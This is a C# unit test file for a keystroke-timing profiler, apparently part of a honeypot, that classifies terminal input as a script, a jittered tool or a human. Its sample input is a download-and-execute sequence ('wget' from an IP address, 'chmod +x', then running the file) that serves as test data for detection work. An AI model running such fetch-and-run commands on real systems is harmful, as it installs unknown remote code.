namespace Decnet.Profiler.Tests;

public sealed class VerdictTests
{
    private const string Text = "cd /tmp\rwget http://203.0.113.9/x\rchmod +x x\r./x\r";

    [Fact]
    public void An_even_rhythm_is_a_scripts() => Judged(Text, Enumerable.Repeat(50.0, 60), "script", "even_rhythm");

    [Fact]
    public void A_script_that_sleeps_between_commands_is_still_a_script() =>
        Judged(Text, Text.Select((_, i) => i % 9 == 0 ? 900.0 : 50 + (i % 2)), "script", "even_rhythm_between_pauses");

    [Fact]
    public void Jitter_around_a_rhythm_is_a_tools()
    {
        var random = new Random(1);
        Judged(Text, Text.Select(_ => 20 + (160 * random.NextDouble())), "jittered", "jittered_rhythm");
    }

    [Fact]
    public void Faster_than_any_hand_is_a_scripts()
    {
        var random = new Random(1);
        Judged(Text, Text.Select(_ => 15 * random.NextDouble()), "script", "faster_than_hands");
    }

    [Fact]
    public void Uneven_gaps_with_pauses_for_thought_are_a_persons()
    {
        var random = new Random(1);
        Judged(Text, Text.Select(c => (70 + (120 * random.NextDouble())) * (c is ' ' or '\r' ? 4 : 1)), "human", "human_rhythm");
    }

    [Fact]
    public void Between_the_bands_a_slip_of_the_finger_makes_it_a_person()
    {
        var gaps = Enumerable.Range(0, 40).Select(i => (i % 4) switch { 0 => 300.0, 1 => 70, 2 => 110, _ => 90 }).ToArray();

        Judged(new string('x', 40), gaps, "jittered", "between_jitter_and_human");
        Judged(new string('x', 20) + "\u007f" + new string('x', 19), gaps, "human", "between_jitter_and_human corrects_itself");
    }

    [Fact]
    public void Too_few_inputs_give_no_verdict() => Judged("ls\r", [0, 100, 100], null, "too_few_inputs");

    [Fact]
    public void Whole_lines_sent_without_a_pause_are_a_scripts()
    {
        var profile = new Typist().Key("uname -a\r").Key("id\rcd /\r", 200).Key("exit 0\r", 150).Profile();

        Assert.Equal("script", profile.Verdict);
        Assert.Equal("whole_lines_without_pause mostly_pasted", profile.VerdictReasons);
    }

    [Fact]
    public void Several_keys_at_once_and_bracketed_text_are_pastes()
    {
        var profile = new Typist().Key("a").Key("wget http://x", 100).Key("\u001b[200~one ", 100).Key("two\u001b[201~", 5).Key("\r", 100).Profile();

        Assert.Equal(3, profile.PasteEvents);
        Assert.Equal(13 + 4 + 3, profile.PastedKeystrokes);
        Assert.Equal(22, profile.TotalKeystrokes);
    }

    [Fact]
    public void An_arrow_key_is_one_key_and_no_paste() => Assert.Equal(0, new Typist().Key("\u001b[1;5C").Profile().PasteEvents);

    private static void Judged(string text, IEnumerable<double> gaps, string? verdict, string reasons)
    {
        var profile = new Typist().Type(text, gaps).Profile();

        Assert.Equal((verdict, reasons), (profile.Verdict, profile.VerdictReasons));
    }
}
